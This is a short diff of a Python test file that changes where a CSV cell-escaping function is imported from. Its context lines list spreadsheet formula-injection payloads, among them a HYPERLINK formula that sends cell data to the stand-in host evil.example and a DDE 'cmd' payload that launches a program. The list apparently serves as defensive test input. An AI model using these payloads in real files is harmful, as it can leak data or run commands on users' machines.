@@ -16,7 +16,7 @@ import pytest
 import yaml
 from cli_tools import car, invoke
 
-from cli.batch import csv_cell
+from scoring.batch import csv_cell
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+SUM(1,2)", "-1+cmd|' /C calc'!A0", "@SUM(1)"]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
